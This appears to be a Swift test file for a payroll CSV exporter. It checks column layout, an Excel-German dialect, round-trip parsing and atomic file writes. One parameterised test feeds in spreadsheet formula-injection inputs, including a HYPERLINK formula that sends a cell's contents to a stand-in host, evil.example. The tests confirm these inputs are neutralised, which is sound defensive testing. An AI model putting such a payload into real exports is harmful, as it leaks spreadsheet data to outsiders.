import Foundation
import Testing
@testable import CallMeter

private func line(agentID: String = "a1", name: String = "Anna", tier: String = "order", amount: Int64 = 12_345,
                  adjustmentOf: String? = nil) -> PayLine {
    PayLine(period: "2026-10", agentID: agentID, agentName: name, kind: .minutes, tier: tier,
            perMinute: FixedDecimal(tenThousandths: 4_525), bonusPercent: nil, calls: 3, billableSeconds: 1_234,
            billableMinutes: 205_667, amount: Money(minorUnits: amount, places: 2), adjustmentOf: adjustmentOf)
}

@Test func rfc4180Layout() {
    let bytes = PayrollCSV.render(lines: [line(name: "Dupont, Claire \"CD\"")], currency: "CHF", places: 2, dialect: .rfc4180)
    let text = String(decoding: bytes, as: UTF8.self)
    #expect(text == "period,agent_id,agent_name,tier,rate_per_minute,calls,billable_seconds,billable_minutes,amount,currency,adjustment_of\r\n"
        + "2026-10,a1,\"Dupont, Claire \"\"CD\"\"\",order,0.4525,3,1234,20.5667,123.45,CHF,\r\n")
    #expect(bytes.first != 0xEF)
}

/// excel-de: BOM, semicolons, decimal commas, CRLF; read back, every cell is what was written.
@Test func excelDEParsesBack() throws {
    let lines = [
        line(name: "Zoë Müller; Team 2", amount: 9_617),
        line(agentID: "a4", name: "Dupont, Claire", tier: "medical", amount: -205, adjustmentOf: "2026-09"),
        PayLine(period: "2026-10", agentID: "a4", agentName: "Dupont, Claire", kind: .bonus, tier: "excellent", perMinute: nil,
                bonusPercent: FixedDecimal(tenThousandths: 25_000), calls: 0, billableSeconds: 0, billableMinutes: 0,
                amount: Money(minorUnits: 275, places: 2), adjustmentOf: nil),
    ]
    let bytes = PayrollCSV.render(lines: lines, currency: "CHF", places: 2, dialect: .excelDE)
    #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF])
    let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
    #expect(text.hasSuffix("\r\n"))
    #expect(!text.replacingOccurrences(of: "\r\n", with: "").contains("\n"))
    let rows = parseCSV(text, delimiter: ";")
    #expect(rows.count == 4)
    #expect(rows[0] == PayrollCSV.columns)
    #expect(rows[1] == ["2026-10", "a1", "Zoë Müller; Team 2", "order", "0,4525", "3", "1234", "20,5667", "96,17", "CHF", ""])
    #expect(rows[2] == ["2026-10", "a4", "Dupont, Claire", "medical", "0,4525", "3", "1234", "20,5667", "-2,05", "CHF", "2026-09"])
    #expect(rows[3] == ["2026-10", "a4", "Dupont, Claire", "bonus:excellent:2.5%", "", "", "", "", "2,75", "CHF", ""])
    // Amounts read back with a decimal comma add up to the total.
    let cents: [Int] = rows.dropFirst().map { row in Int(row[8].replacingOccurrences(of: ",", with: "")) ?? Int.min }
    let sum = cents.reduce(0, +)
    #expect(sum == 9_687)
}

/// Names that a spreadsheet would run as formulas get a leading apostrophe; numbers stay numbers.
@Test(arguments: [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""),
    ("+1", "'+1"), ("-2", "'-2"), ("@x", "'@x"), ("\tTab", "'\tTab"), ("\rCR", "\"'\rCR\""),
    ("=1+1", "'=1+1"), ("Anna", "Anna"), ("", ""), ("A=1", "A=1"), (" =1", " =1"),
])
func formulaInjectionIsNeutralised(_ name: String, _ cell: String) {
    let bytes = PayrollCSV.render(lines: [line(agentID: name, name: name, amount: -200)], currency: "CHF", places: 2, dialect: .rfc4180)
    let text = String(decoding: bytes, as: UTF8.self)
    let row = String(text.split(separator: "\r\n", omittingEmptySubsequences: false)[1])
    #expect(row == "2026-10,\(cell),\(cell),order,0.4525,3,1234,20.5667,-2.00,CHF,")
    let excel = String(decoding: PayrollCSV.render(lines: [line(name: name, amount: -200)], currency: "CHF", places: 2, dialect: .excelDE).dropFirst(3),
                       as: UTF8.self)
    #expect(excel.contains(";-2,00;")) // a negative amount is a number, not neutralised text
    let parsed = parseCSV(excel, delimiter: ";")
    #expect(parsed[1][2] == PayrollCSV.neutralised(name))
}

@Test func writeThenRenameLeavesNoTemporaryFile() throws {
    let scratch = try ScratchDirectory()
    let path = scratch.path("export.csv")
    try AtomicFile.write(Array("old\r\n".utf8), to: path)
    try AtomicFile.write(Array("new\r\n".utf8), to: path)
    #expect(try String(contentsOfFile: path, encoding: .utf8) == "new\r\n")
    #expect(try FileManager.default.contentsOfDirectory(atPath: scratch.url.path) == ["export.csv"])
    let attributes = try FileManager.default.attributesOfItem(atPath: path)
    #expect((attributes[.posixPermissions] as? Int) == 0o600)
    #expect(throws: AtomicFile.Failure.self) { try AtomicFile.write([], to: scratch.path("missing/dir/export.csv")) }
}
